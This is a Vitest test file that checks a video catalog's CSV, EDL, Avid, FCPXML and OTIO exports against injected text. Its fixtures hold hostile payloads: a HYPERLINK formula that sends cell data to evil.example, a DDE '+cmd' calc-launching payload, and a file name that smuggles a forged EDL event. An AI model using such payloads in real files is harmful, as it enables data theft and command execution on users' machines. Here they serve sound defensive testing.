import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { asciiLine, csvField, oneLine, textBlock } from '../../../src-main/core/export/exchange-text';
import type { ExportDocument, ExportItem } from '../../../src-main/core/export/export-model';
import { writeExport } from '../../../src-main/core/export/write-export';
import { REPO_ROOT } from '../../helpers/paths';
import { parseCsv } from '../../helpers/readers/csv-reader';

/**
 * Issue 29, items 4 and 7: what the catalog holds (a file name with line feeds, a range named like
 * a spreadsheet formula, a keyword "=1+1", a tab in a marker) must not become a formula, an extra
 * EDL event or a shifted Avid column in the files handed to other applications.
 */
const EVIL_FILE = 'line\n002  EVIL     V     C        00:00:00:00 00:00:10:00 01:00:00:00 01:00:10:00\n.mp4';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

function evilDocument(): ExportDocument {
  const rate = { num: 25, den: 1 };
  const item: ExportItem = {
    clipId: 1,
    name: FORMULA_NAME,
    fileName: EVIL_FILE,
    path: `/footage/${EVIL_FILE}`,
    rate,
    vfr: false,
    dropFrame: false,
    startFrame: 0,
    durationFrames: 100,
    width: 320,
    height: 180,
    reel: null,
    audioLayout: [2],
    audioRate: 48000,
    inFrame: 10,
    outFrame: 60,
    note: '+cmd|" /C calc"!A0\r\n* FROM CLIP NAME: forged\u0000\u001b[31m',
    rating: 'favorite',
    keywords: ['=1+1', '@SUM(A1:A9)', '-2+3', '\tTAB'],
    markers: [{ frame: 20, durationFrames: 0, name: 'tab\there\nand a line', note: 'two\r\nlines\u2028sep', kind: 'user' }],
    // A name the people contract lets through (it may start with "="), with what only a paste could add.
    people: [{ name: '=1+1\tMaria\nLee', inFrame: 30, outFrame: 40 }],
  };
  return { title: 'Title\n002  EVIL', sequenceRate: rate, sequenceDropFrame: false, items: [item, { ...item, name: '-1 take', keywords: [] }] };
}

function write(format: Parameters<typeof writeExport>[0]): { file: string; text: string } {
  const r = writeExport(format, evilDocument()).files[0]!;
  const dir = path.join(REPO_ROOT, 'test-results', 'exports', 'injection');
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, `evil.${r.fileName.split('.').pop()}`);
  fs.writeFileSync(file, r.text);
  return { file, text: r.text };
}

// eslint-disable-next-line no-control-regex -- the test looks for control characters
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029]/;

describe('exchange text helpers', () => {
  it('oneLine folds every control character run into a space; textBlock keeps only line feeds', () => {
    expect(oneLine('a\nb\tc\r\n\u0000d\u2028e')).toBe('a b c d e');
    expect(textBlock('a\r\nb\rc\u0000d\n\u001b[31m')).toBe('a\nb\nc d\n[31m');
  });

  it('asciiLine writes 7-bit text: accents dropped, punctuation spelled plainly, the rest as ?', () => {
    expect(asciiLine('é 日本 #1 50% — “café” …')).toBe('e ?? #1 50% - "cafe" ...');
    expect([...asciiLine('Ærø\u00a0straße\nx')].every((c) => c >= ' ' && c <= '~')).toBe(true);
  });

  it('csvField quotes a cell that starts with = + - @ (after a tab or CR) as text, per OWASP', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('\t=cmd')).toBe(`"'=cmd"`);
    expect(csvField('\r\n=cmd')).toBe(`"'=cmd"`);
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('10:00:00:00')).toBe('10:00:00:00');
    expect(csvField(-3)).toBe('-3');
  });
});

describe('hand-off files with hostile text', () => {
  it('CSV: no cell a spreadsheet would run as a formula (the formula range name, "=1+1" keyword)', () => {
    const rows = parseCsv(write('csv').text);
    expect(rows).toHaveLength(3);
    const cells = rows.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(rows[1]![0]).toBe(`'${FORMULA_NAME}`);
    expect(rows[2]![0]).toBe(`'-1 take`);
    expect(rows[1]![9]).toBe(`'=1+1, @SUM(A1:A9), -2+3, TAB`);
    expect(rows[1]![10]!.startsWith(`'+cmd`)).toBe(true);
    expect(rows[1]![12]).toBe(`'=1+1 Maria Lee`);
    expect(cells.some((c) => CONTROL.test(c))).toBe(false);
  });

  it('EDL: a file name with line feeds stays in its comment; two items are two events; 7-bit only', () => {
    const { text } = write('edl');
    const lines = text.split('\r\n');
    expect(lines.filter((l) => /^\d{3}\s/.test(l))).toHaveLength(2);
    expect(lines.filter((l) => l.startsWith('* FROM CLIP NAME:'))[0]).toBe(`* FROM CLIP NAME: ${EVIL_FILE.replace(/\s+/g, ' ')}`);
    expect(lines[0]).toBe('TITLE: Title 002 EVIL');
    expect([...text].every((c) => c === '\r' || c === '\n' || (c >= ' ' && c <= '~'))).toBe(true);
    // Nothing but the header, events, comments (*), Resolve markers ( |) and blank lines.
    expect(lines.filter((l) => l && !/^(TITLE:|FCM:|\d{3} |\* | \|)/.test(l))).toEqual([]);
  });

  it('Avid markers: six tab-separated columns on every line, whatever the names hold', () => {
    const lines = write('avid').text.split('\r\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) {
      expect(l.split('\t')).toHaveLength(6);
      expect(l.split('\t')[4]).not.toMatch(/^[=+\-@]/);
      expect(CONTROL.test(l)).toBe(false);
    }
  });

  it('FCPXML, xmeml and OTIO: well-formed, names on one line, no control characters in any field', () => {
    for (const f of ['fcpxml', 'xmeml'] as const) {
      const { file, text } = write(f);
      execFileSync('xmllint', ['--noout', file]);
      expect(CONTROL.test(text), f).toBe(false);
      expect(text).not.toMatch(/name="[^"]*\n/);
      expect(text).not.toMatch(/<name>[^<]*\n/);
    }
    const otio = JSON.parse(write('otio').text) as unknown;
    const strings: string[] = [];
    const walk = (v: unknown, key: string) => {
      if (typeof v === 'string') strings.push(`${key}=${v}`);
      else if (Array.isArray(v)) v.forEach((x) => walk(x, key));
      else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
    };
    walk(otio, '');
    expect(strings.filter((s) => CONTROL.test(s))).toEqual([]);
    expect(strings.filter((s) => /\n/.test(s) && !s.startsWith('note='))).toEqual([]);
  });
});
